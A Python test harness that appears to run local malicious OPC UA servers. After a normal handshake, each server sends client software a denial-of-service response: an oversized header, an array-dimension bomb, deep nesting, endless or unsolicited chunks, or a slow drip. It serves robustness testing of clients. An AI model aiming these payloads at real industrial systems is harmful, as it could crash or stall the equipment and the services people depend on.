"""OPC UA servers that attack: each opens a channel as it should, and then does one bad thing.

Run as a program with the names of attacks; it prints their ports as JSON and ends with its input.
"""

import asyncio
import json
import struct
import sys
from collections import Counter
from collections.abc import AsyncIterator, Callable
from contextlib import suppress

from asyncua import ua
from asyncua.ua.ua_binary import struct_to_binary

ACKNOWLEDGE = struct.pack("<4sIIIIII", b"ACKF", 28, 0, 2**31 - 1, 2**31 - 1, 0, 0)
NONE = b"http://opcfoundation.org/UA/SecurityPolicy#None"
READ_RESPONSE = 634
CHANNEL = 7
Attack = Callable[[int, int], AsyncIterator[bytes]]


def chunk(kind: bytes, sequence: int, request: int, body: bytes) -> bytes:
    return struct.pack("<4sIIIII", kind, 24 + len(body), CHANNEL, 1, sequence, request) + body


def opened(request: int) -> bytes:
    answer = ua.OpenSecureChannelResponse()
    answer.Parameters.SecurityToken.ChannelId = CHANNEL
    answer.Parameters.SecurityToken.TokenId = 1
    answer.Parameters.SecurityToken.RevisedLifetime = 3_600_000
    answer.Parameters.ServerNonce = b""
    body = struct.pack("<i", len(NONE)) + NONE + struct.pack("<iiII", -1, -1, 1, request)
    body += struct_to_binary(answer)
    return struct.pack("<4sII", b"OPNF", 12 + len(body), CHANNEL) + body


def carrying(kind: int, body: bytes) -> bytes:
    """An answer whose header carries an object of this kind."""
    header = struct.pack("<qIIBi", 0, 1, 0, 0, 0)
    extra = struct.pack("<BBHBi", 1, 0, kind, 1, len(body)) + body
    return struct.pack("<BBH", 1, 0, 464) + header + extra + bytes(200)


def in_chunks(sequence: int, request: int, message: bytes) -> list[bytes]:
    parts = [message[at : at + 60_000] for at in range(0, len(message), 60_000)]
    kinds = [b"MSGC"] * (len(parts) - 1) + [b"MSGF"]
    return [
        chunk(kind, sequence + i, request, part)
        for i, (kind, part) in enumerate(zip(kinds, parts, strict=True))
    ]


def _values(body: bytes, number: int) -> bytes:
    read = ua.ReadResponse()
    return struct_to_binary(read)[4:-8] + struct.pack("<i", number) + body + struct.pack("<i", 0)


async def endless(sequence: int, request: int) -> AsyncIterator[bytes]:
    for number in range(20_000):
        yield chunk(b"MSGC", sequence + number, request, bytes(60_000))


async def huge_header(_sequence: int, _request: int) -> AsyncIterator[bytes]:
    yield struct.pack("<4sII", b"MSGF", 0xFFFF_FFF0, CHANNEL)
    for _ in range(2_000):
        yield bytes(60_000)


async def dimensions(sequence: int, request: int) -> AsyncIterator[bytes]:
    bomb = struct.pack("<BBBdii", 1, 0xCB, 1, 0, 0, 0)[:1]
    bomb = b"\1\xcb" + struct.pack("<i", 0) + struct.pack("<iii", 2, 1_000_000, 0)
    yield chunk(b"MSGF", sequence, request, carrying(READ_RESPONSE, _values(bomb * 20, 20)))


async def empty_values(sequence: int, request: int) -> AsyncIterator[bytes]:
    message = carrying(READ_RESPONSE, _values(bytes(4_000_000), 4_000_000))
    for piece in in_chunks(sequence, request, message):
        yield piece


async def nested(sequence: int, request: int) -> AsyncIterator[bytes]:
    body = b"\1" + b"\x18" * 50_000
    yield chunk(b"MSGF", sequence, request, carrying(READ_RESPONSE, _values(body, 1)))


async def backwards(_sequence: int, _request: int) -> AsyncIterator[bytes]:
    yield struct.pack("<4sIIi", b"ERRF", 16, 0, -16)


async def aborted(sequence: int, request: int) -> AsyncIterator[bytes]:
    number = sequence
    while True:
        pieces = range(number, number + 500)
        yield b"".join(chunk(b"MSGA", n, request, struct.pack("<Ii", 0, -1)) for n in pieces)
        number += 500


async def unasked(sequence: int, request: int) -> AsyncIterator[bytes]:
    for number in range(100_000):
        yield chunk(b"MSGF", sequence + number, request + 1_000, bytes(40))


async def drip(sequence: int, request: int) -> AsyncIterator[bytes]:
    for byte in chunk(b"MSGF", sequence, request, bytes(60_000)):
        yield bytes([byte])
        await asyncio.sleep(1)


async def silence(_sequence: int, _request: int) -> AsyncIterator[bytes]:
    yield b""
    await asyncio.sleep(3_600)


ATTACKS: dict[str, Attack] = {
    one.__name__: one
    for one in (
        endless, huge_header, dimensions, empty_values, nested, backwards, aborted, unasked, drip,
        silence,
    )
}  # fmt: skip
done: Counter[str] = Counter()


def serving(name: str) -> Callable[[asyncio.StreamReader, asyncio.StreamWriter], object]:
    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(ConnectionError, asyncio.IncompleteReadError):
            while True:
                kind, size = struct.unpack("<4sI", await reader.readexactly(8))
                body = await reader.readexactly(size - 8)
                if kind == b"HELF":
                    writer.write(ACKNOWLEDGE)
                elif kind == b"OPNF":
                    at = 8 + struct.unpack_from("<i", body, 4)[0] + 8
                    writer.write(opened(struct.unpack_from("<II", body, at)[1]))
                else:
                    done[name] += 1
                    async for piece in ATTACKS[name](2, struct.unpack_from("<III", body, 4)[2]):
                        writer.write(piece)
                        await writer.drain()
        writer.transport.abort()

    return serve


async def main(names: list[str]) -> None:
    ports = {}
    for name in names:
        server = await asyncio.start_server(serving(name), "127.0.0.1", 0)
        ports[name] = server.sockets[0].getsockname()[1]
    sys.stdout.write(json.dumps(ports) + "\n")
    sys.stdout.flush()
    await asyncio.to_thread(sys.stdin.read)
    sys.stdout.write(json.dumps(done) + "\n")
    sys.stdout.flush()


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1:] or list(ATTACKS)))
